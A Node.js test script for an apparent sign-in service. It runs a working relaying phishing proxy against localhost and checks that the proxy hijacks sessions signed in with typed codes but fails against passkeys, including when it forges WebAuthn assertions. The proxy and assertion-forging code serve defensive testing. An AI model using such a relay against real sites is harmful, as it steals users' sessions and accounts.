// A relaying proxy on another name, as phishing tools are: it has a cookie jar of its own, speaks with the real house, and changes
// nothing of the pages but host names. A code that a person copies does not stop it (RFC 10027), and this program asserts that; a
// passkey does, and each way around it is tried. Usage: node proxy.mjs PATH-OF-TESSERA
import assert from 'node:assert/strict'
import { createHash, createPrivateKey, sign } from 'node:crypto'
import { createServer } from 'node:http'
import { startHouse } from './house.mjs'
import {
  PERSON, Person, Shop, atEnd, authenticator, checks, claimUri, closeAll, openChromium, openProfile, shownCode,
} from './screen.mjs'

const PORT = 4990
const NAME = `http://login.phish.localhost:${PORT}`
const BODY_BYTES_MAX = 1 << 20
const done = checks()
const { check } = done

class Proxy {
  cookies = new Map()
  assertions = []

  static async open(house) {
    const proxy = new Proxy()
    proxy.house = house.demo.urls.public
    const server = createServer((request, response) => {
      proxy.relay(request).then(
        ({ status, headers, body }) => response.writeHead(status, headers).end(body),
        () => response.writeHead(502).end(),
      )
    })
    await new Promise((resolve) => server.listen(PORT, '127.0.0.1', resolve))
    atEnd(() => (server.closeAllConnections(), server.close()))
    return proxy
  }

  /** What the victim is shown of a text of the house. */
  faked(text) {
    return text.replaceAll(this.house, NAME)
  }

  /** What the house is told of a text of the victim. */
  genuine(text) {
    return text.replaceAll(NAME, this.house)
  }

  /** A request of the proxy's own session. */
  async ask(url, { method = 'GET', headers = {}, body } = {}) {
    const cookie = [...this.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
    const answer = await fetch(url, {
      method,
      redirect: 'manual',
      headers: { ...headers, ...(cookie ? { cookie } : {}) },
      ...(body?.length ? { body } : {}),
    })
    for (const line of answer.headers.getSetCookie()) {
      const [pair] = line.split(';')
      const at = pair.indexOf('=')
      this.cookies.set(pair.slice(0, at), pair.slice(at + 1))
    }
    return answer
  }

  post(url, body) {
    const headers = { 'content-type': 'application/json', accept: 'application/json' }
    return this.ask(url, { method: 'POST', headers, body: JSON.stringify(body) })
  }

  async relay(request) {
    const chunks = []
    let size = 0
    for await (const chunk of request) {
      chunks.push(chunk)
      size += chunk.length
      if (size > BODY_BYTES_MAX) throw new Error('too much')
    }
    const text = Buffer.concat(chunks).toString()
    if (request.url.endsWith('/assertion')) this.assertions.push(text)
    const headers = {}
    for (const name of ['accept', 'content-type', 'user-agent', 'last-event-id']) {
      if (request.headers[name]) headers[name] = request.headers[name]
    }
    const answer = await this.ask(`${this.house}${request.url}`, { method: request.method, headers, body: this.genuine(text) })
    const kept = {}
    for (const name of ['content-type', 'content-security-policy', 'location', 'cache-control']) {
      const value = answer.headers.get(name)
      if (value) kept[name] = this.faked(value)
    }
    // Where the house sends the browser back to the shop, the proxy goes itself: the code is for its own session there.
    if (kept.location && request.url.endsWith('/finish')) {
      this.callback = kept.location
      return { status: 200, headers: { 'content-type': 'text/html' }, body: '<!doctype html><title>Done</title>Thank you' }
    }
    return { status: answer.status, headers: kept, body: this.faked(await answer.text()) }
  }
}

/** The victim's authenticator as its worst enemy has it: it signs for whatever origin and name it is told. */
function signedBy(credential, { challenge, origin, rpId }) {
  const sha256 = (bytes) => createHash('sha256').update(bytes).digest()
  const url = (bytes) => Buffer.from(bytes).toString('base64url')
  const key = createPrivateKey({ key: Buffer.from(credential.privateKey, 'base64'), format: 'der', type: 'pkcs8' })
  const clientData = Buffer.from(JSON.stringify({ type: 'webauthn.get', challenge, origin, crossOrigin: false }))
  const counter = Buffer.alloc(4)
  counter.writeUInt32BE(credential.signCount + 1)
  const data = Buffer.concat([sha256(rpId), Buffer.from([0x05]), counter])
  return {
    id: url(Buffer.from(credential.credentialId, 'base64')),
    clientDataJSON: url(clientData),
    authenticatorData: url(data),
    signature: url(sign('sha256', Buffer.concat([data, sha256(clientData)]), key)),
    userHandle: url(Buffer.from(credential.userHandle, 'base64')),
  }
}

/** In the page: a passkey for the page's own name, used over the challenge of the house. */
async function ownPasskey(challenge) {
  const bytes = (text) => Uint8Array.from(atob(text.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0))
  const text = (buffer) =>
    btoa(String.fromCharCode(...new Uint8Array(buffer))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
  await navigator.credentials.create({
    publicKey: {
      challenge: new Uint8Array(32),
      rp: { id: location.hostname, name: 'x' },
      user: { id: new Uint8Array(16), name: 'x', displayName: 'x' },
      pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
      authenticatorSelection: { residentKey: 'required', userVerification: 'required' },
    },
  })
  const made = await navigator.credentials.get({
    publicKey: { challenge: bytes(challenge), rpId: location.hostname, userVerification: 'required' },
  })
  return {
    id: text(made.rawId),
    clientDataJSON: text(made.response.clientDataJSON),
    authenticatorData: text(made.response.authenticatorData),
    signature: text(made.response.signature),
    userHandle: text(made.response.userHandle),
  }
}

async function run(house, chromium) {
  const shop = await Shop.open(house, { port: 4994, name: 'Shop' })
  const bank = await Shop.open(house, { port: 4993, name: 'Bank', acrMin: 'phr' })
  const ana = new Person(house, 'ana')
  await ana.enrol(PERSON)
  const { context } = await openProfile(chromium)
  const page = await context.newPage()
  const keys = await authenticator(page)
  const proxy = await Proxy.open(house)

  await check('the victim has a passkey at the real house', async () => {
    await page.goto(ana.run(['passkey', house.tenant]).url)
    await page.getByRole('button', { name: 'Add a passkey' }).click()
    await page.getByText('The passkey was added').waitFor()
    await context.clearCookies()
  })

  // The proxy begins at the shop in its own session; the victim opens the same page under the proxy's name.
  const lure = async (shop) => {
    const asked = await shop.ask()
    await page.goto(proxy.faked(asked.url.href))
    assert.equal(new URL(page.url()).origin, NAME)
    assert.deepEqual(await context.cookies(), [], 'the session is in the jar of the proxy')
    // Of the one text that would give it away, the link for the wallet, the proxy shows the real one.
    const uri = proxy.genuine(await claimUri(page))
    return { ...asked, uri, session: `${house.idp}/sessions/${uri.split('/').pop()}` }
  }
  await check('a relaying proxy succeeds against a code: the threat model says so', async () => {
    const asked = await lure(shop)
    await ana.approve(asked.uri, () => shownCode(page))
    await page.getByText('Signed in with device').waitFor()
    await page.getByRole('link', { name: /^Continue to/ }).click()
    await page.getByText('Thank you').waitFor()
    await proxy.ask(proxy.callback)
    const claims = (await shop.redeem(asked)).claims()
    assert.equal(claims.acr, 'seal:code')
    assert.ok(!claims.amr.includes('pop'))
  })

  // From here on the bank asks for phr, and the victim has typed the code that the proxy shows.
  const state = async ({ session }) => (await proxy.ask(`${session}/state`)).json()
  const attack = async (name, act) =>
    check(name, async () => {
      const asked = await lure(bank)
      const answering = ana.begin(asked.uri, () => shownCode(page), [])
      await answering.typed
      const { webauthn, ...before } = await state(asked)
      assert.deepEqual([before.state, before.assertion], ['claimed', 'required'])
      const form_token = await page.locator('input[name=form_token]').first().getAttribute('value')
      const ended = await act({ ...asked, challenge: webauthn.challenge, form_token })
      const after = await state(asked)
      assert.equal(after.state, ended, 'what became of it')
      if (ended === 'claimed') await proxy.post(`${asked.session}/cancel`, { form_token })
      assert.notEqual((await answering.done).status, 0, 'the wallet approved nothing')
      const answer = await proxy.ask(`${asked.session}/finish`)
      const { searchParams } = new URL(answer.headers.get('location'))
      assert.deepEqual([searchParams.get('code'), searchParams.get('error')], [null, 'access_denied'])
    })
  const posted = async ({ session, form_token }, assertion) => {
    const answer = await proxy.post(`${session}/assertion`, { form_token, ...assertion })
    return (await answer.json()).state
  }
  const victims = async () => (await keys.credentials()).find((it) => it.rpId === 'localhost')

  await attack('where the bank asks phr, code and wallet alone end nothing', async (asked) => {
    const answer = await proxy.ask(`${asked.session}/state?wait=3&seen=claimed`)
    return (await answer.json()).state
  })
  await attack('a browser that holds the passkey does not use it under another name', async () => {
    await page.getByRole('button', { name: 'Use a passkey' }).click()
    await page.getByText('No passkey was used').waitFor()
    assert.deepEqual(proxy.assertions, [], 'nothing was signed')
    return 'claimed'
  })
  await attack("a passkey that Chromium makes for the proxy's own name is nobody's", async (asked) =>
    posted(asked, await page.evaluate(ownPasskey, asked.challenge)))
  for (const [name, origin, rpId] of [
    ['origin', NAME, 'localhost'],
    ['rpId', house.demo.urls.public, 'login.phish.localhost'],
    ['origin and rpId', NAME, 'login.phish.localhost'],
  ]) {
    await attack(`signed by the victim's own key, but with ${name} of the proxy, an assertion fails`, async (asked) => {
      const { challenge } = asked
      return posted(asked, signedBy(await victims(), { challenge, origin, rpId }))
    })
  }
  const perfect = async (challenge) =>
    signedBy(await victims(), { challenge, origin: house.demo.urls.public, rpId: 'localhost' })
  await attack('an assertion that the victim makes at the real house is over another sign-in', async (asked) => {
    const own = await bank.ask()
    const tab = await context.newPage()
    await tab.goto(own.url.href)
    const challenge = await tab.locator('button[data-passkey]').getAttribute('data-challenge')
    await tab.close()
    await context.clearCookies()
    return posted(asked, await perfect(challenge))
  })
  await attack('a perfect assertion without the cookie of the session is not heard', async (asked) => {
    for (const cookie of ['', `tessera_browser=${'A'.repeat(43)}`]) {
      const answer = await fetch(`${asked.session}/assertion`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', cookie },
        body: JSON.stringify({ form_token: asked.form_token, ...(await perfect(asked.challenge)) }),
      })
      assert.equal(answer.status, cookie ? 403 : 401)
    }
    return 'claimed'
  })
  await attack('a perfect assertion at the doors of wallets counts for nothing', async (asked) => {
    const sid = asked.uri.split('/').pop()
    const assertion = await perfect(asked.challenge)
    for (const path of ['assertion', 'answer', 'response', 'claim']) {
      const answer = await fetch(`${house.tenant}/seal/sessions/${sid}/${path}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ webauthn: assertion, ...assertion }),
      })
      assert.ok([401, 404, 405].includes(answer.status), `${path}: ${answer.status}`)
    }
    return 'claimed'
  })
}

const house = await startHouse(process.argv[2])
atEnd(() => house.stop())
try {
  await run(house, await openChromium())
  console.log(`${done.passed} checks passed`)
} finally {
  await closeAll()
}
